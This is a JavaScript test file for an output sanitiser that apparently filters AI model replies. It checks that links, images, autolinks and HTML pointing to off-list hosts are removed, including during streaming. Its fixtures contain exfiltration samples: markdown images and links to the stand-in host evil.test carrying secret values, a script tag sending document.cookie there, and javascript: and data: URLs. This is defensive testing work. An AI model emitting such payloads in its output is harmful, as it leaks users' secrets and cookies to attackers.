import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createOutputSanitizer, sanitizeOutput } from '../../src/guard/index.js';

const options = { allowedLinkHosts: ['docs.mistral.ai', '*.example.com'], stripHtml: true };

test('an image to an off-list host is removed, keeping its alt text', () => {
  const out = sanitizeOutput('Done ![status](https://evil.test/p.png?d=SECRET123) ok', options);
  assert.equal(out, 'Done status ok');
});

test('links keep their text and lose an off-list URL; allowed hosts stay untouched', () => {
  const text =
    'See [docs](https://docs.mistral.ai/api) and [this](http://evil.test/?q=abc) and [sub](https://a.example.com/x).';
  assert.equal(
    sanitizeOutput(text, options),
    'See [docs](https://docs.mistral.ai/api) and this and [sub](https://a.example.com/x).',
  );
});

test('reference definitions and autolinks to off-list hosts are neutralised', () => {
  const text = '![x][r]\n[r]: https://evil.test/i.png?d=1\n<https://evil.test/?leak=1>';
  const out = sanitizeOutput(text, options);
  assert.ok(!out.includes('evil.test'), out);
});

test('javascript and data URLs are never allowed', () => {
  const out = sanitizeOutput('[a](javascript:alert(1)) ![b](data:image/png;base64,AAAA)', options);
  assert.ok(!out.includes('javascript:') && !out.includes('data:'), out);
});

test('HTML is stripped with script content, or only scripts and off-list embeds are removed', () => {
  const html =
    'a<script>fetch("//evil.test?"+document.cookie)</script><b>bold</b><img src="https://evil.test/x.png">z';
  assert.equal(sanitizeOutput(html, options), 'aboldz');
  assert.equal(sanitizeOutput(html, { ...options, stripHtml: false }), 'a<b>bold</b>z');
});

test('the streaming sanitiser equals the whole-text one at every split point', () => {
  const text =
    'Intro ![s](https://evil.test/p.png?d=S) [ok](https://docs.mistral.ai/x) <script>x()</script> <b>b</b> [r]: https://evil.test/\nend [a](http://evil.test/x)';
  const whole = sanitizeOutput(text, options);
  for (let i = 0; i <= text.length; i++) {
    for (let j = i; j <= text.length; j += 7) {
      const s = createOutputSanitizer(options);
      const out =
        s.push(text.slice(0, i)) + s.push(text.slice(i, j)) + s.push(text.slice(j)) + s.end();
      assert.equal(out, whole, `split ${i}/${j}`);
    }
  }
});

test('plain prose streams through the sanitiser without delay', () => {
  const s = createOutputSanitizer(options);
  assert.equal(s.push('Hello, this is plain text. '), 'Hello, this is plain text. ');
  assert.equal(s.push('A link [x'), 'A link ');
});
